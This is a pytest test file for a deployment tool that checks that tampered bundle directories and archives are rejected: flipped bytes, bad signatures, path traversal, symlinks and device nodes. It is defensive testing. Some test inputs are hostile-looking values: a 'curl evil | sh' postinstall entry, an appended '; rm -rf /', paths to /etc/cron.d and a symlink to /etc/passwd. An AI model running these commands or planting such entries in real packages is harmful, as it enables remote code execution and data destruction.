"""Bundles: reproducible writes, verification of directories and archives, and the tamper matrix."""

from __future__ import annotations

import json
import os
import shutil
import tarfile
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deploy_tool import bundle
from deploy_tool.errors import BundleError, InputError
from deploy_tool.manifest import MANIFEST_NAME, SIGNATURE_NAME, Manifest, sign
from tests.support.bundles import (
    ARCNAMES,
    Keys,
    make_keys,
    member,
    mutate_archive,
    read_members,
    sample_entries,
    snapshot,
    write_members,
    write_sample_bundle,
)
from tests.support.examples import examples


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Two signers (one trusted), a good bundle A and a bundle B with the same names but other content."""
    base = tmp_path_factory.mktemp("bundles")
    keys = make_keys(base / "keys")
    other = make_keys(base / "other-keys", name="stranger")
    a = write_sample_bundle(base, keys, out="a")
    shutil.copytree(base / "src", base / "src-b", symlinks=True)
    inputs_b = {k: base / "src-b" / p.name for k, p in sample_inputs_paths(base / "src").items()}
    for k in ("template", "unit", "config"):
        inputs_b[k].write_bytes(inputs_b[k].read_bytes().swapcase())  # same names and sizes, other bytes
    b = bundle.write_bundle(sample_entries(inputs_b), base / "b", name="demo", inputs={"x": 1},
                            native_libs={}, key_path=keys.private)
    return {"base": base, "keys": keys, "other": other, "a": a, "b": b}


def sample_inputs_paths(src: Path) -> dict[str, Path]:
    return {k: src / Path(ARCNAMES[k]).name for k in ARCNAMES}


def _copy_dir(world: dict, tmp: Path) -> Path:
    d = tmp / "bundle-dir"
    shutil.copytree(world["a"].directory, d, symlinks=True)
    return d


def _copy_archive(world: dict, tmp: Path) -> Path:
    p = tmp / world["a"].archive.name
    shutil.copyfile(world["a"].archive, p)
    return p


def _flip(p: Path, offset: int | None = None) -> None:
    data = bytearray(p.read_bytes())
    i = len(data) // 2 if offset is None else offset
    data[i] ^= 0x01
    p.write_bytes(bytes(data))


def _resign(d: Path, mbytes: bytes, key: Path) -> None:
    (d / MANIFEST_NAME).write_bytes(mbytes)
    (d / SIGNATURE_NAME).write_bytes(sign(mbytes, key))


def _edit_manifest(d: Path, edit: Callable[[dict], None], key: Path) -> None:
    obj = json.loads((d / MANIFEST_NAME).read_bytes())
    edit(obj)
    _resign(d, (json.dumps(obj, sort_keys=True, indent=1) + "\n").encode(), key)


# Each case: (id, form, tamper(world, tmp, target) -> target, expected reason). `form` says whether the target
# is a bundle directory or an archive.
def _dir_flip(kind: str):
    def t(w: dict, tmp: Path, d: Path) -> Path:
        _flip(d / ARCNAMES[kind])
        return d
    return t


def _dir_extra(w, tmp, d):
    (d / "wheels" / "evil-0.1-py3-none-any.whl").write_bytes(b"PK")
    return d


def _dir_extra_dir(w, tmp, d):
    (d / "hooks").mkdir()
    return d


def _dir_missing(w, tmp, d):
    (d / ARCNAMES["nccl"]).unlink()
    return d


def _dir_symlink(w, tmp, d):
    p = d / ARCNAMES["config"]
    real = tmp / "elsewhere.json"
    shutil.copyfile(p, real)
    p.unlink()
    os.symlink(real, p)
    return d


def _dir_fifo(w, tmp, d):
    os.mkfifo(d / "units" / "pipe.service")
    return d


def _dir_mode(w, tmp, d):
    os.chmod(d / ARCNAMES["unit"], 0o755)
    return d


def _dir_grow(w, tmp, d):
    with open(d / ARCNAMES["template"], "ab") as f:
        f.write(b"x")
    return d


def _dir_unknown_key(w, tmp, d):
    _edit_manifest(d, lambda o: o.__setitem__("postinstall", "curl evil | sh"), w["keys"].private)
    return d


def _dir_unknown_file_key(w, tmp, d):
    _edit_manifest(d, lambda o: o["files"][0].__setitem__("owner", "root"), w["keys"].private)
    return d


def _dir_version(w, tmp, d):
    _edit_manifest(d, lambda o: o.__setitem__("format_version", 3), w["keys"].private)
    return d


def _dir_other_manifest(w, tmp, d):
    for n in (MANIFEST_NAME, SIGNATURE_NAME):
        shutil.copyfile(w["b"].directory / n, d / n)
    return d


def _dir_sig_other_bytes(w, tmp, d):
    m = (d / MANIFEST_NAME).read_bytes().replace(b"1970-01-01T00:00:00Z", b"2030-01-01T00:00:00Z")
    (d / MANIFEST_NAME).write_bytes(m)  # signature still over the old bytes
    return d


def _dir_untrusted(w, tmp, d):
    _resign(d, (d / MANIFEST_NAME).read_bytes(), w["other"].private)
    return d


def _dir_no_sig(w, tmp, d):
    (d / SIGNATURE_NAME).unlink()
    return d


def _dir_abs_path(w, tmp, d):
    _edit_manifest(d, lambda o: o["files"][0].__setitem__("path", "/etc/cron.d/evil"), w["keys"].private)
    return d


def _dir_dotdot_path(w, tmp, d):
    _edit_manifest(d, lambda o: o["files"][0].__setitem__("path", "wheels/../../evil"), w["keys"].private)
    return d


def _dir_dup_path(w, tmp, d):
    def edit(o):
        o["files"].insert(1, dict(o["files"][0]))
    _edit_manifest(d, edit, w["keys"].private)
    return d


# Archive cases work on the members of the good archive.
def _arc(fn: Callable[[list], list], *, compress: bool = True):
    def t(w: dict, tmp: Path, p: Path) -> Path:
        return mutate_archive(p, p, fn, compress=compress)
    return t


def _first_file(ms, arcname):
    return next(i for i, (ti, _) in enumerate(ms) if ti.name == arcname)


def _arc_flip(kind: str):
    def fn(ms):
        i = _first_file(ms, ARCNAMES[kind])
        data = bytearray(ms[i][1])
        data[len(data) // 2] ^= 0x80
        ms[i] = (ms[i][0], bytes(data))
        return ms
    return _arc(fn)


def _arc_add(m):
    return _arc(lambda ms: ms + [m])


def _arc_dup(ms):
    i = _first_file(ms, ARCNAMES["unit"])
    return ms + [(ms[i][0], ms[i][1])]


def _arc_bigger(ms):
    i = _first_file(ms, ARCNAMES["config"])
    ms[i] = (ms[i][0], ms[i][1] + b"; rm -rf /\n")
    return ms


def _arc_mode(ms):
    i = _first_file(ms, ARCNAMES["unit"])
    ms[i][0].mode = 0o755
    return ms


def _arc_drop(ms):
    return [m for m in ms if m[0].name != ARCNAMES["wheel"]]


def _arc_manifest_last(ms):
    return ms[2:] + ms[:2]


def _arc_truncate(w, tmp, p):
    data = p.read_bytes()
    p.write_bytes(data[: len(data) * 2 // 3])
    return p


def _arc_truncate_plain(w, tmp, p):
    ms = read_members(p)
    plain = write_members(p, ms, compress=False)
    data = plain.read_bytes()
    plain.write_bytes(data[: len(data) - 4 * 512 - 10240])  # cuts into the last file's data
    return plain


def _arc_trailing(w, tmp, p):
    with open(p, "ab") as f:
        f.write(b"#!/bin/sh\necho owned\n")
    return p


def _arc_pax(w, tmp, p):
    ms = read_members(p)
    return write_members(p, ms[:2] + [member("pax/" + "é" * 80, data=b"x")] + ms[2:], fmt=tarfile.PAX_FORMAT)


def _arc_other_manifest(w, tmp, p):
    other = read_members(w["b"].archive)
    return mutate_archive(p, p, lambda ms: other[:2] + ms[2:])


CASES: list[tuple[str, str, Callable, str]] = [
    *[(f"dir-flip-{k}", "dir", _dir_flip(k), "hash-mismatch") for k in ARCNAMES],
    ("dir-extra-file", "dir", _dir_extra, "extra-file"),
    ("dir-extra-directory", "dir", _dir_extra_dir, "extra-file"),
    ("dir-missing-file", "dir", _dir_missing, "missing-file"),
    ("dir-symlink", "dir", _dir_symlink, "symlink"),
    ("dir-fifo", "dir", _dir_fifo, "fifo"),
    ("dir-mode-change", "dir", _dir_mode, "mode-mismatch"),
    ("dir-size-change", "dir", _dir_grow, "size-mismatch"),
    ("dir-unknown-manifest-key", "dir", _dir_unknown_key, "unknown-key"),
    ("dir-unknown-file-key", "dir", _dir_unknown_file_key, "unknown-key"),
    ("dir-unknown-format-version", "dir", _dir_version, "format-version-unsupported"),
    ("dir-manifest-from-other-bundle", "dir", _dir_other_manifest, "hash-mismatch"),
    ("dir-signature-over-other-bytes", "dir", _dir_sig_other_bytes, "signature-invalid"),
    ("dir-untrusted-key", "dir", _dir_untrusted, "untrusted-key"),
    ("dir-signature-missing", "dir", _dir_no_sig, "signature-missing"),
    ("dir-manifest-absolute-path", "dir", _dir_abs_path, "absolute-path"),
    ("dir-manifest-dotdot-path", "dir", _dir_dotdot_path, "dotdot-path"),
    ("dir-manifest-duplicate-path", "dir", _dir_dup_path, "duplicate-path"),
    *[(f"archive-flip-{k}", "archive", _arc_flip(k), "hash-mismatch") for k in ("wheel", "venv", "nccl")],
    ("archive-absolute-path", "archive", _arc_add(member("/tmp/deploytool-escaped", data=b"owned")),
     "absolute-path"),
    ("archive-dotdot-path", "archive", _arc_add(member("units/../../escaped", data=b"owned")), "dotdot-path"),
    ("archive-symlink", "archive", _arc_add(member("units/link", tarfile.SYMTYPE, linkname="/etc/passwd")),
     "symlink"),
    ("archive-hardlink", "archive", _arc_add(member("units/hl", tarfile.LNKTYPE, linkname="config.json")),
     "hardlink"),
    ("archive-device-node", "archive", _arc_add(member("units/null", tarfile.CHRTYPE)), "device-node"),
    ("archive-fifo", "archive", _arc_add(member("units/fifo", tarfile.FIFOTYPE)), "fifo"),
    ("archive-duplicate-entry", "archive", _arc(_arc_dup), "duplicate-entry"),
    ("archive-entry-larger-than-declared", "archive", _arc(_arc_bigger), "entry-too-large"),
    ("archive-mode-change", "archive", _arc(_arc_mode), "mode-mismatch"),
    ("archive-extra-file", "archive", _arc_add(member("wheels/evil.whl", data=b"PK")), "extra-file"),
    ("archive-missing-file", "archive", _arc(_arc_drop), "missing-file"),
    ("archive-manifest-not-first", "archive", _arc(_arc_manifest_last), "manifest-not-first"),
    ("archive-manifest-from-other-bundle", "archive", _arc_other_manifest, "hash-mismatch"),
    ("archive-truncated-zstd", "archive", _arc_truncate, "archive-truncated"),
    ("archive-truncated-tar", "archive", _arc_truncate_plain, "archive-truncated"),
    ("archive-trailing-data", "archive", _arc_trailing, "trailing-data"),
    ("archive-pax-header", "archive", _arc_pax, "unsupported-entry"),
]


@pytest.mark.parametrize(("case", "form", "tamper", "reason"), CASES, ids=[c[0] for c in CASES])
def test_tamper_matrix(world: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str, form: str,
                       tamper: Callable, reason: str) -> None:
    """Each tampering is rejected with its named reason, and nothing is left outside (or in) the staging dir."""
    work = tmp_path / "work"
    work.mkdir()
    systmp = tmp_path / "systmp"
    systmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(systmp))
    target = _copy_dir(world, work) if form == "dir" else _copy_archive(world, work)
    target = tamper(world, work, target)
    staging = tmp_path / "staging"
    before = snapshot(tmp_path)
    with pytest.raises(BundleError) as ei:
        bundle.verify_bundle(target, world["keys"].trusted_dir, staging=staging if form == "archive" else None)
    assert ei.value.reason == reason, f"{case}: {ei.value.message}"
    assert ei.value.to_json()["details"]["reason"] == reason
    assert not staging.exists(), "staging dir must be removed on rejection"
    assert snapshot(tmp_path) == before, "nothing may be written anywhere else"
    assert list(systmp.iterdir()) == []
    assert not Path("/tmp/deploytool-escaped").exists()
    assert not (tmp_path / "escaped").exists()


def test_tamper_matrix_is_large_enough() -> None:
    """The matrix covers at least 20 cases and every kind of file of the bundle."""
    assert len(CASES) >= 20
    assert {c[0] for c in CASES} >= {f"dir-flip-{k}" for k in ARCNAMES}


def test_archive_verify_without_staging_uses_private_temp_and_cleans_up(world: dict, tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """A good archive unpacks into a private (0700) temp dir, removed by the context manager."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with bundle.verify_bundle(world["a"].archive, world["keys"].trusted_dir) as vb:
        assert vb.extracted and vb.bundle_id == world["a"].bundle_id
        assert (vb.root / ARCNAMES["nccl"]).read_bytes() == (world["a"].directory / ARCNAMES["nccl"]).read_bytes()
        assert oct(vb.root.stat().st_mode & 0o777) == oct(0o700)
        assert (vb.root / "bin" / "deploytool-hook").stat().st_mode & 0o777 == 0o755
    assert list(tmp_path.iterdir()) == []


def test_good_directory_and_archive_verify(world: dict, tmp_path: Path) -> None:
    """An untouched bundle passes in both forms, names the signing key, and the archive unpacks to the same files."""
    d = bundle.verify_bundle(world["a"].directory, world["keys"].trusted_dir)
    assert d.key_id == world["keys"].key_id and not d.extracted
    a = bundle.verify_bundle(world["a"].archive, world["keys"].trusted_dir, staging=tmp_path / "s")
    assert a.root == tmp_path / "s"
    assert snapshot(a.root).keys() == snapshot(world["a"].directory).keys()
    a.cleanup()
    assert a.root.exists(), "a staging dir given by the caller is the caller's to remove"


def test_expect_id(world: dict) -> None:
    """verify_bundle(expect_id=) rejects a valid bundle that is not the one asked for."""
    with pytest.raises(BundleError) as ei:
        bundle.verify_bundle(world["b"].directory, world["keys"].trusted_dir, expect_id=world["a"].bundle_id)
    assert ei.value.reason == "bundle-id-mismatch"


def test_reproducible_bundle(tmp_path: Path) -> None:
    """Two writes of the same inputs, and of a copy with other mtimes, modes and owners, are byte-identical."""
    keys = make_keys(tmp_path / "keys")
    one = write_sample_bundle(tmp_path, keys, out="one")
    two = write_sample_bundle(tmp_path, keys, out="two")
    shutil.copytree(tmp_path / "src", tmp_path / "src-copy")
    for p in (tmp_path / "src-copy").rglob("*"):
        if p.is_file() and not p.is_symlink():
            os.utime(p, (1_600_000_000, 1_700_000_000))
            os.chmod(p, 0o600)
            if os.geteuid() == 0:
                os.chown(p, 1234, 5678)
    three = write_sample_bundle(tmp_path, keys, out="three", inputs_dir="src-copy")
    assert one.bundle_id == two.bundle_id == three.bundle_id
    for other in (two, three):
        assert other.archive.read_bytes() == one.archive.read_bytes()
        for n in (MANIFEST_NAME, SIGNATURE_NAME):
            assert (other.directory / n).read_bytes() == (one.directory / n).read_bytes()
    assert one.archive.name == f"demo-{one.bundle_id}.tar.zst"


def test_source_date_epoch_sets_created_and_mtimes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """SOURCE_DATE_EPOCH is the MANIFEST creation time and every archived mtime; the bundle id ignores it."""
    keys = make_keys(tmp_path / "keys")
    plain = write_sample_bundle(tmp_path, keys, out="plain")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    dated = write_sample_bundle(tmp_path, keys, out="dated")
    assert dated.manifest.created == "2023-11-14T22:13:20Z"
    assert dated.bundle_id == plain.bundle_id
    assert {ti.mtime for ti, _ in read_members(dated.archive)} == {1700000000}
    assert (dated.directory / ARCNAMES["unit"]).stat().st_mtime == 1700000000


def test_rewrite_replaces_existing_bundle_dir(tmp_path: Path) -> None:
    """Writing the same bundle again replaces the directory whole (no stray files survive) and leaves no temp."""
    keys = make_keys(tmp_path / "keys")
    info = write_sample_bundle(tmp_path, keys)
    (info.directory / "stray").write_text("x")
    again = write_sample_bundle(tmp_path, keys)
    assert not (again.directory / "stray").exists()
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted([info.directory.name, info.archive.name])
    bundle.verify_bundle(again.directory, keys.trusted_dir)


def test_write_bundle_rejects_bad_entries(tmp_path: Path) -> None:
    """Bad entry names, duplicates, reserved names and missing inputs are InputErrors, and nothing is left behind."""
    keys = make_keys(tmp_path / "keys")
    out = tmp_path / "out"
    bad = [
        [bundle.Entry("/abs", b"x")],
        [bundle.Entry("a/../b", b"x")],
        [bundle.Entry("a", b"x"), bundle.Entry("a", b"y")],
        [bundle.Entry("MANIFEST", b"x")],
        [bundle.Entry("a", b"x"), bundle.Entry("a/b", b"y")],
        [bundle.Entry("w.whl", tmp_path / "missing.whl")],
    ]
    for ents in bad:
        with pytest.raises(InputError):
            bundle.write_bundle(ents, out, inputs={}, native_libs={}, key_path=keys.private)
    assert not out.exists() or list(out.iterdir()) == []


def test_write_bundle_bad_key_writes_nothing(tmp_path: Path) -> None:
    """A missing signing key fails before any file is copied."""
    with pytest.raises(InputError, match="signing key"):
        bundle.write_bundle([bundle.Entry("a", b"x")], tmp_path / "out", inputs={}, native_libs={},
                            key_path=tmp_path / "nope.key")
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_plain_tar_archive_option(tmp_path: Path) -> None:
    """archive="none" writes an uncompressed .tar that verifies like the .tar.zst."""
    keys = make_keys(tmp_path / "keys")
    info = bundle.write_bundle([bundle.Entry("a.txt", b"hello\n")], tmp_path / "out", name="t", inputs={},
                               native_libs={}, key_path=keys.private, archive="none")
    assert info.archive.name.endswith(".tar")
    with bundle.verify_bundle(info.archive, keys.trusted_dir) as vb:
        assert (vb.root / "a.txt").read_bytes() == b"hello\n"


def test_manifest_parse_of_written_bundle(world: dict) -> None:
    """The written MANIFEST parses strictly and lists every entry with size, mode and hash."""
    m = Manifest.from_bytes((world["a"].directory / MANIFEST_NAME).read_bytes())
    assert [f.path for f in m.files] == sorted(f.path for f in m.files)
    assert m.by_path()["bin/deploytool-hook"].mode == 0o755
    assert m.inputs["nccl"] == {"archs": ["sm_75"], "forced": False}


def _cli():
    from deploy_tool.cli import main

    return main


def test_cli_bundle_verify_ok_and_json_failure(world: dict, tmp_path: Path) -> None:
    """`deploytool bundle verify` prints OK for a good bundle, and JSON with the reason and exit 6 for a bad one."""
    runner = CliRunner()
    keys = str(world["keys"].trusted_dir)
    r = runner.invoke(_cli(), ["bundle", "verify", str(world["a"].archive), "--keys", keys])
    assert r.exit_code == 0, r.output
    assert world["a"].bundle_id in r.output
    d = _copy_dir(world, tmp_path)
    _flip(d / ARCNAMES["wheel"])
    r = runner.invoke(_cli(), ["bundle", "verify", str(d), "--keys", keys, "--json"])
    assert r.exit_code == 6
    assert json.loads(r.stdout)["details"]["reason"] == "hash-mismatch"


def test_cli_keygen(tmp_path: Path) -> None:
    """`deploytool keygen` writes a 0600 private key and a public key; a second run refuses without --force."""
    runner = CliRunner()
    r = runner.invoke(_cli(), ["keygen", "--out", str(tmp_path / "k")])
    assert r.exit_code == 0, r.output
    assert (tmp_path / "k" / "deploytool.key").stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "k" / "deploytool.pub").is_file()
    r = runner.invoke(_cli(), ["keygen", "--out", str(tmp_path / "k")])
    assert r.exit_code == 5 and "already exists" in r.output
    r = runner.invoke(_cli(), ["keygen", "--out", str(tmp_path / "k"), "--force"])
    assert r.exit_code == 0


def test_sign_then_verify_with_keygen_keys(tmp_path: Path) -> None:
    """A bundle signed with a keygen key verifies against a keys dir holding only its .pub."""
    runner = CliRunner()
    runner.invoke(_cli(), ["keygen", "--out", str(tmp_path / "k")])
    trusted = tmp_path / "trusted"
    trusted.mkdir()
    shutil.copy(tmp_path / "k" / "deploytool.pub", trusted)
    info = bundle.write_bundle([bundle.Entry("x", b"1")], tmp_path / "o", inputs={}, native_libs={},
                               key_path=tmp_path / "k" / "deploytool.key")
    assert bundle.verify_bundle(info.directory, trusted).key_id == info.key_id


def test_keys_type_is_real(world: dict) -> None:
    """The test keys are real Ed25519 PEM keys (no stand-ins)."""
    k: Keys = world["keys"]
    assert b"BEGIN PRIVATE KEY" in k.private.read_bytes()
    assert len(k.key_id) == 16


DIR_CASES = [c for c in CASES if c[1] == "dir"]


@pytest.mark.parametrize(("case", "form", "tamper", "reason"), DIR_CASES, ids=[c[0] for c in DIR_CASES])
def test_tamper_matrix_staged_directory(world: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str,
                                        form: str, tamper: Callable, reason: str) -> None:
    """A bundle directory verified into a staging dir (what install does) refuses each tampering with the same
    reason as the in-place check, and leaves no staging dir and nothing anywhere else."""
    work = tmp_path / "work"
    work.mkdir()
    systmp = tmp_path / "systmp"
    systmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(systmp))
    target = tamper(world, work, _copy_dir(world, work))
    staging = tmp_path / "staging"
    before = snapshot(tmp_path)
    with pytest.raises(BundleError) as ei:
        bundle.verify_bundle(target, world["keys"].trusted_dir, staging=staging)
    assert ei.value.reason == reason, f"{case}: {ei.value.message}"
    assert not staging.exists(), "staging dir must be removed on rejection"
    assert snapshot(tmp_path) == before
    assert list(systmp.iterdir()) == []


def test_staged_directory_is_what_was_verified(world: dict, tmp_path: Path) -> None:
    """After a staged verify of a directory, changing every file of the source changes nothing in the staged
    copy: it holds the signed bytes, private (0700), with the MANIFEST's modes."""
    d = _copy_dir(world, tmp_path)
    vb = bundle.verify_bundle(d, world["keys"].trusted_dir, staging=tmp_path / "s")
    assert vb.extracted and vb.root == tmp_path / "s" and vb.source == d
    assert oct(vb.root.stat().st_mode & 0o777) == oct(0o700)
    signed = {f.path: (world["a"].directory / f.path).read_bytes() for f in vb.manifest.files}
    for f in vb.manifest.files:
        p = d / f.path
        p.chmod(0o644)
        p.write_bytes(b"swapped " + p.read_bytes())
    assert {f.path: (vb.root / f.path).read_bytes() for f in vb.manifest.files} == signed
    assert (vb.root / MANIFEST_NAME).read_bytes() == (world["a"].directory / MANIFEST_NAME).read_bytes()
    for f in vb.manifest.files:
        assert (vb.root / f.path).stat().st_mode & 0o7777 == f.mode


def test_a_directory_with_hard_links_verifies_and_its_staged_copy_is_its_own(world: dict, tmp_path: Path) -> None:
    """Every file of a bundle directory (MANIFEST and MANIFEST.sig too) with another name outside it, as bundles
    kept side by side share what did not change: it verifies in place and staged, and the staged copy (what install
    uses) holds the signed bytes in files of its own, which a write through the other names, on the same inodes,
    does not reach. A file changed through its other name is then refused by its hash, as any change is."""
    (tmp_path / "work").mkdir()
    d = _copy_dir(world, tmp_path / "work")
    other = tmp_path / "other"
    other.mkdir()
    for i, f in enumerate(sorted(p for p in d.rglob("*") if p.is_file())):
        os.link(f, other / f"{i}-{f.name}")
    assert bundle.verify_bundle(d, world["keys"].trusted_dir).root == d
    vb = bundle.verify_bundle(d, world["keys"].trusted_dir, staging=tmp_path / "s")
    signed = {f.path: (world["a"].directory / f.path).read_bytes() for f in vb.manifest.files}
    for o in other.iterdir():
        if o.name.endswith((MANIFEST_NAME, SIGNATURE_NAME)):
            continue
        mode = o.stat().st_mode & 0o7777
        o.chmod(0o644)
        with open(o, "r+b") as fh:  # in place: the bundle's own inode
            fh.write(b"X")
        o.chmod(mode)
    assert {f.path: (vb.root / f.path).read_bytes() for f in vb.manifest.files} == signed
    assert all((vb.root / f.path).stat().st_nlink == 1 for f in vb.manifest.files)
    with pytest.raises(BundleError) as ei:
        bundle.verify_bundle(d, world["keys"].trusted_dir, staging=tmp_path / "s2")
    assert ei.value.reason == "hash-mismatch", ei.value.message
    assert not (tmp_path / "s2").exists()


@settings(max_examples=examples(40), deadline=2000, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_byte_of_any_file_flipped_is_refused_staged(world: dict, tmp_path_factory: pytest.TempPathFactory,
                                                         data: st.DataObject) -> None:
    """Property: any one byte of any file of a bundle directory flipped (any bit) is refused by the staged
    verify with hash-mismatch naming that file, and the staging dir is gone."""
    tmp = tmp_path_factory.mktemp("flip")
    d = _copy_dir(world, tmp)
    files = [f for f in world["a"].manifest.files if f.size]
    f = data.draw(st.sampled_from(files), label="file")
    off = data.draw(st.integers(0, f.size - 1), label="offset")
    bit = data.draw(st.integers(0, 7), label="bit")
    p = d / f.path
    raw = bytearray(p.read_bytes())
    raw[off] ^= 1 << bit
    p.write_bytes(bytes(raw))
    with pytest.raises(BundleError) as ei:
        bundle.verify_bundle(d, world["keys"].trusted_dir, staging=tmp / "s")
    assert ei.value.reason == "hash-mismatch" and f.path in ei.value.message
    assert not (tmp / "s").exists()
    shutil.rmtree(tmp)


def test_file_rewritten_while_copied_is_refused(world: dict, tmp_path: Path) -> None:
    """A thread rewrites one file of the directory (same size, other bytes, in place) in a loop while the staged
    verify runs: each run either refuses naming that file or stages exactly the signed bytes, never a mix."""
    import threading

    d = _copy_dir(world, tmp_path)
    victim = d / ARCNAMES["unit"]
    good = victim.read_bytes()
    bad = good.swapcase()
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            for data in (bad, good):
                with open(victim, "r+b") as f:
                    f.write(data)

    t = threading.Thread(target=flip, daemon=True)
    t.start()
    outcomes = set()
    try:
        for i in range(60):
            s = tmp_path / f"s{i}"
            try:
                vb = bundle.verify_bundle(d, world["keys"].trusted_dir, staging=s)
            except BundleError as exc:
                assert exc.reason == "hash-mismatch" and ARCNAMES["unit"] in exc.message, exc.message
                assert not s.exists()
                outcomes.add("refused")
            else:
                assert (vb.root / ARCNAMES["unit"]).read_bytes() == good
                outcomes.add("staged")
    finally:
        stop.set()
        t.join()
    assert "refused" in outcomes
